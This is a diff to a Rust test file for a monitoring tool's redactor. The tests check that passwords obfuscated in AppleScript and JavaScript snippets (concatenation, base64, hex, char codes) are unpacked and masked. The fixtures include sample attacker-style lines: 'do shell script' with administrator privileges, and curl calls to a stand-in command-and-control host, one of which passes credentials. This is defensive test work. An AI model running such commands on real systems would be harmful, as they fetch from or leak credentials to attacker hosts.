@@ -46,10 +46,68 @@ fn members_of_objects_are_known_by_their_names() {
     });
     let document = applied(&redactor(), document);
     assert!(!document.to_string().contains("Zebra7"), "{document}");
+    let document_of_others = json!({"x": {"decoded": [{"password": "Zebra7"}, "password=Zebra7"]}});
+    assert!(!applied(&redactor(), document_of_others).to_string().contains("Zebra7"));
     assert_eq!(document["http"]["request"]["headers"]["Accept"], "a");
     assert_eq!(document["osawatch"]["process"]["audit_token"], "1:2:3");
     assert_eq!(document["url"]["password"], "[redacted: password]");
     assert_eq!(document["rule"]["note"], "password \"x\"");
+}
+
+#[test]
+fn what_is_unpacked_from_a_place_of_a_secret_is_left_out_as_it_is_there() {
+    use crate::script::unpack::unpack;
+    let decoded = |text: &str| unpack(text).into_iter().map(|unpacked| unpacked.text).collect::<Vec<_>>();
+    let hex = "Zebra7Quagga".bytes().map(|byte| format!("{byte:02x}")).collect::<String>();
+    let numbers = "Zebra7Quagga".bytes().map(|byte| byte.to_string()).collect::<Vec<_>>().join(",");
+    for text in [
+        "do shell script \"id\" password (\"Zebra7\" & \"Quagga\") with administrator privileges".to_owned(),
+        "set pw to \"Zebra7\" & \"Quagga\"".to_owned(),
+        "set pw to \"Zebra7\" & \u{AC}\n  \"Quagga\"".to_owned(),
+        "var password = 'Zebra7' + 'Quagga'".to_owned(),
+        "var password='Zebra7'+'Quagga'".to_owned(),
+        format!("password = String.fromCharCode({numbers})"),
+        format!("set pw to character id {{{numbers}}}"),
+        format!("set pw to \"{hex}\""),
+        "var password = atob('WmVicmE3UXVhZ2dh')".to_owned(),
+        "password=atob('WmVicmE3UXVhZ2dh')".to_owned(),
+        "set pw to \"V21WaWNtRTNVWFZoWjJkaA==\"".to_owned(),
+        "curl -H 'Authorization: Basic YWRhOlplYnJhN1F1YWdnYQ=='".to_owned(),
+        "var password = '\\x5a\\x65\\x62\\x72\\x61\\x37\\x51\\x75\\x61\\x67\\x67\\x61'".to_owned(),
+        "do shell script \"dscl . -authonly ada \" & \"Zebra7\" & \"Quagga\"".to_owned(),
+    ] {
+        let unpacked = decoded(&text);
+        assert!(unpacked.iter().any(|unpacked| unpacked.contains("Zebra7Quagga")), "{text}: {unpacked:?}");
+        let script = json!({"text": text, "decoded": unpacked});
+        for document in [
+            json!({"osawatch": {"script": script}}),
+            json!({"process": {"args": ["osascript", "-e", text]}, "osawatch": {"script": {"decoded": script["decoded"]}}}),
+        ] {
+            let shown = applied(&redactor(), document.clone()).to_string();
+            assert!(!shown.contains("Zebra") && !shown.contains("Quagga"), "{text}: {shown}");
+            assert!(shown.contains("[redacted: "), "{shown}");
+        }
+    }
+}
+
+#[test]
+fn what_is_unpacked_from_elsewhere_is_shown_but_for_the_secret_in_it() {
+    let texts = [
+        "set pw to \"Zebra7\" & \"Quagga\"\nset c to \"curl -s \" & \"https://c2.example.org/x\"",
+        "do shell script \"curl -u ada:Zebra7\" & \"Quagga https://c2.example.org/x\"",
+        "set p to \"Zebra7Quagga\" & \"\"\ndo shell script \"id\" password p\nset c to \"echo \" & \"done\"",
+    ];
+    let wanted = [
+        json!(["[redacted: password]", "curl -s https://c2.example.org/x"]),
+        json!(["curl -u ada:[redacted: password] https://c2.example.org/x"]),
+        json!(["[redacted: password]", "echo done"]),
+    ];
+    for (text, wanted) in texts.into_iter().zip(wanted) {
+        let decoded: Vec<String> = crate::script::unpack::unpack(text).into_iter().map(|one| one.text).collect();
+        let document = applied(&redactor(), json!({"osawatch": {"script": {"text": text, "decoded": decoded}}}));
+        assert_eq!(document["osawatch"]["script"]["decoded"], wanted, "{text}");
+        assert_eq!(applied(&redactor(), document.clone()), document);
+    }
 }
 
 #[test]
@@ -238,6 +296,25 @@ fn hostile_texts_are_read_in_linear_time() {
         "on pw return \"a\" ",
         "connect(\"a\", ",
         "b'",
+        "x $(a) ",
+        "x <(a) ",
+        "$(x ",
+        "p=\"$(",
+        "sshpass -p $(echo x) ",
+        "\"a\" & (f \"b\") & ",
+        "\"a\" & f(\"b\") + x & ",
+        "(\"a\" & ",
+        "\"a\" & (",
+        "'a'$b",
+        "'a'$(",
+        "pw=character id {1, ",
+        "password = String.fromCharCode(1,",
+        "set pw to x & y & ",
+        "password = await ",
+        "password = a.b(",
+        "password \u{AC}\n",
+        "'a'+",
+        "set p to \"a\" & \"b\" & p & ",
     ] {
         let text = unit.repeat((64 << 10) / unit.len());
         let mut document = json!({"text": text.clone(), "args": [text]});
